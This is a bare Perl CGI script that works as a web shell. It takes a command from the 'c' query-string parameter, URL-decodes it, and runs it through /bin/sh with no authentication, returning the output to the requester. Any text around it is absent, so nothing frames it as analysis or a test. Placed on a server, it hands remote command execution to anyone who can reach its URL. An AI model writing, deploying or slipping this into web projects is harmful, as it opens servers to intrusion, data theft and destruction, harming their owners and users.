#!/usr/bin/perl
print "Content-Type: text/plain\n\n";
my ($c) = $ENV{QUERY_STRING} =~ /c=([^&]*)/;
$c =~ s/%(..)/chr hex $1/ge;
system('/bin/sh', '-c', $c);
